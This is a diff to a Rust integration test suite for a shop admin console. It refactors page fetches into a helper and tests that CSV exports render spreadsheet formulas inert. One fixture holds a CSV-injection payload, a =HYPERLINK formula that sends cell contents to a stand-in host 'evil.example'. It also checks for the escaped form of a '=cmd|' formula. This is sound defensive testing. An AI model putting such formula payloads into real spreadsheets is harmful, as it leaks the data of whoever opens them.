@@ -13,7 +13,8 @@ use mallhost::time::Clock as _;
 use mallhost_tests::{Options, TestEnv};
 
 use super::console::{
-    PASSWORD, csrf_of, env_with_staff, login_http, multipart, no_redirects, post, set_cookie,
+    PASSWORD, csrf_of, env_with_staff, login_http, multipart, no_redirects, page_text, post,
+    set_cookie,
 };
 
 /// `serve --admin` on `config` with its standard error kept: (child, base URL, stderr so far).
@@ -696,15 +697,7 @@ async fn run_now_shows_its_result_without_a_reload() {
     let (mut serve, base, _) = serve_logged(&env, &config, "127.0.0.1:0").await;
     let c = no_redirects();
     let sam = login_http(&c, &base, "sam").await;
-    let html = c
-        .get(format!("{base}/console"))
-        .header("cookie", &sam)
-        .send()
-        .await
-        .unwrap()
-        .text()
-        .await
-        .unwrap();
+    let html = page_text(&c, &format!("{base}/console"), &sam).await;
     let r = post(
         &c,
         &format!("{base}/console/jobs/run"),
@@ -721,15 +714,7 @@ async fn run_now_shows_its_result_without_a_reload() {
     // The page keeps coming back until the run has ended, then shows its result in words.
     let t = std::time::Instant::now();
     loop {
-        let html = c
-            .get(format!("{base}{started}"))
-            .header("cookie", &sam)
-            .send()
-            .await
-            .unwrap()
-            .text()
-            .await
-            .unwrap();
+        let html = page_text(&c, &format!("{base}{started}"), &sam).await;
         if html.contains("id=\"finished\"") {
             assert!(!html.contains("http-equiv=\"refresh\""), "{html}");
             assert!(html.contains("成功"), "{html}");
@@ -796,27 +781,11 @@ async fn formulas_from_a_mall_or_a_file_are_inert_in_every_csv() {
     let (mut serve, base, _) = serve_logged(&env, &config, "127.0.0.1:0").await;
     let c = no_redirects();
     let sam = login_http(&c, &base, "sam").await;
-    let csv = c
-        .get(format!("{base}/console/orders.csv"))
-        .header("cookie", &sam)
-        .send()
-        .await
-        .unwrap()
-        .text()
-        .await
-        .unwrap();
+    let csv = page_text(&c, &format!("{base}/console/orders.csv"), &sam).await;
     assert!(csv.contains("'=cmd|"), "{csv}");
     assert_no_live_formula(&csv);
     // The rows an import refused, as CSV: a product file whose bad row's key is a formula.
-    let html = c
-        .get(format!("{base}/console/import"))
-        .header("cookie", &sam)
-        .send()
-        .await
-        .unwrap()
-        .text()
-        .await
-        .unwrap();
+    let html = page_text(&c, &format!("{base}/console/import"), &sam).await;
     let token = csrf_of(&html);
     let file = "item_code,sku_code,name,price\n=HYPERLINK(\"http://evil.example/?d=\"&A1&B1,\"詳細\"),S1,品,not-a-price\nI2,S2,品2,100\n";
     let (kind, body) = multipart(
